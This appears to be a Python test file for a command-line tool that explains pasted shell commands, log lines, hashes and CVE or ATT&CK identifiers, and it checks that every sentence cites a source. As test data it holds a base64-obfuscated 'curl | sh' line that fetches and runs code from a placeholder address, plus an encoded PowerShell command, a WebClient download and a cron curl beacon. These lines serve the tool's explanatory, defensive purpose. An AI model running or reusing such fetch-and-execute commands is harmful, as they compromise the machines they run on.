#!/usr/bin/env python3
"""Pasted texts and what is said of them: every sentence cites, what is not known is said to be so.

usage: tests/cli/explain.py TOCSIN [NAME...]"""

import json
import pathlib
import re
import sys
import time

from person import case, main

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
HIDDEN = "echo Y3VybCBodHRwOi8vMTkyLjAuMi4xMC94IHwgc2gK | base64 -d | sh"


def explain(person, *words):
    return json.loads(person.run("explain", "--format", "json", *words).out)


def text_of(reply):
    assert reply["answer"] and all(sentence["cites"] for sentence in reply["answer"]), reply
    return " ".join(sentence["text"] for sentence in reply["answer"])


@case
def an_ordinary_command_is_explained_step_by_step(person):
    said = text_of(explain(person, "sudo tar xzf backup.tgz -C /opt > /dev/null &"))
    for part in ("sudo runs a command with another account's rights", "tar packs and unpacks archives",
                 "x unpacks", "z with gzip", "-C /opt in this folder", "backup.tgz", "thrown away",
                 "in the background", "Nothing in it is among the things"):
        assert part in said, (part, said)


@case
def what_a_command_hides_is_decoded_and_explained_too(person):
    said = text_of(explain(person, HIDDEN))
    assert "curl hxxp://192.0.2[.]10/x | sh" in said and "curl sends a request" in said, said
    assert "A program is fetched from the network and run at once" in said, said
    windows = "powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=="
    assert "whoami /all" in text_of(explain(person, windows))


@case
def commands_of_windows_are_explained_by_their_own_shell(person):
    said = text_of(explain(person, r'schtasks /create /tn Job /tr "C:\tools\x.exe" /sc daily'))
    for part in ("the command prompt of Windows", "/create makes one", "/sc daily so often"):
        assert part in said, (part, said)
    said = text_of(explain(person, "$c = New-Object Net.WebClient; $c.DownloadFile('http://192.0.2.1/a', 'b')"))
    for part in ("for PowerShell", "one that fetches and sends over the network", "DownloadFile fetches a file"):
        assert part in said, (part, said)
    assert "prints the lines of files that have a text" in text_of(explain(person, r"find /i x C:\a.txt"))
    assert "lists files that meet conditions" in text_of(explain(person, "find . -name x"))


@case
def words_that_say_what_to_do_are_explained(person):
    for text, part in (("git push --force", "push sends changes elsewhere; --force in place of what is there"),
                       ("docker compose up -d", "compose up makes and starts containers"),
                       ("systemctl --now enable ssh", "enable lets ssh start by itself"),
                       ("gcloud compute instances list", "list lists compute instances"),
                       ("aws s3api list-buckets", "list-buckets lists the buckets of s3api"),
                       ("git [ci|commit] -m x", "commit records changes")):
        assert part in text_of(explain(person, text)), (text, text_of(explain(person, text)))


@case
def addresses_hashes_and_lines_of_a_crontab_are_told(person):
    for text, part in (("203.0.113.7", "kept for examples"), ("10.0.0.0/8", "first 8 bits"),
                       ("ann@mail.example", "an address for mail"), ("a" * 64, "a SHA-256 hash"),
                       ("*/5 * * * * /usr/bin/curl -s http://192.0.2.1/a", "every 5 minutes"),
                       ("*/5 * * * * /usr/bin/curl -s http://192.0.2.1/a", "curl sends a request"),
                       ("www.host.example", "a name on the network"), ("00:1a:2b:3c:4d:5e", "MAC address")):
        assert part in text_of(explain(person, text)), text


@case
def of_an_unknown_program_nothing_is_guessed(person):
    said = text_of(explain(person, "frobnicate --hard everything"))
    assert "frobnicate is not known here" in said and "everything" not in said, said
    assert "only known when it runs" in text_of(explain(person, "$TOOL --now"))


@case
def options_of_the_text_are_not_ours(person):
    assert "-l with sizes" in person.run("explain", "ls", "-l").out.replace("\n", " ")
    assert person.run("explain", "--format", "json", "ls", "--format", "x").out.startswith("{")


@case
def names_are_known_by_number_and_by_name(person):
    for word, part in (("T1110.001", "Password Guessing"), ("password guessing", "T1110.001"),
                       ("TA0006", "Credential Access"), ("CVE-2021-44228", "Log4j"),
                       ("CVE-1999-99999", "not among those"), ("beacon", "asks an outside machine"),
                       ("g0016", "APT29")):
        assert part in text_of(explain(person, word)), word


@case
def log_lines_addresses_requests_and_agents_are_told_apart(person):
    line = "Mar  3 02:10:00 web01 sshd[9]: Failed password for root from 203.0.113.7 port 4000 ssh2"
    for text, part in ((line, "line of a log of web01"), ("http://a.example/b?c=d", "address on the network"),
                       ("GET /a HTTP/1.1\nHost: b.example", "request to a web server"),
                       ("Mozilla/5.0 (X11; Linux)", "names itself")):
        assert part in text_of(explain(person, text)), text
    assert "login failed" in text_of(explain(person, line))


@case
def hostile_text_is_escaped_and_bounded(person):
    said = person.run("explain", "echo \x1b[31m\u202eabc \u0001").out
    assert "\x1b" not in said and "\u202e" not in said, said
    explain(person, "(" * 5000)
    explain(person, "$(" * 3000)
    explain(person, "a;" * 5000)
    person.run("explain", "x" * 70000, status=2)
    person.run("explain", "-", status=2)


@case
def what_was_pasted_is_not_kept(person):
    explain(person, "sshpass -p", "hunter-secret", "ssh host.example")
    kept = [path for path in pathlib.Path(person.home).rglob("*") if path.is_file()]
    assert kept and not any(b"hunter-secret" in path.read_bytes() for path in kept)
    assert any(b"explain" in path.read_bytes() and b"bytes)" in path.read_bytes() for path in kept)


@case
def it_takes_no_more_than_a_moment(person):
    person.run("explain", "ls")
    took = []
    for _ in range(5):
        began = time.monotonic()
        person.run("explain", HIDDEN)
        took.append(time.monotonic() - began)
    assert min(took) < 10, took  # tools/bench measures it; here it must only not grow without bound


@case
def a_thousand_programs_are_known(person):
    known = set()
    for path in (ROOT / "content" / "knowledge").glob("*.yaml"):
        section = None
        for row in path.read_text().splitlines():
            section = row[:-1] if re.fullmatch(r"\w+:", row) else section
            if section in ("programs", "windows") and row.startswith("  "):
                known.add((section, row.strip().partition(":")[0]))
    assert sum(kind == "programs" for kind, _ in known) >= 1000, len(known)
    assert sum(kind == "windows" for kind, _ in known) >= 80, len(known)


if __name__ == "__main__":
    sys.exit(main(sys.argv[2:]))
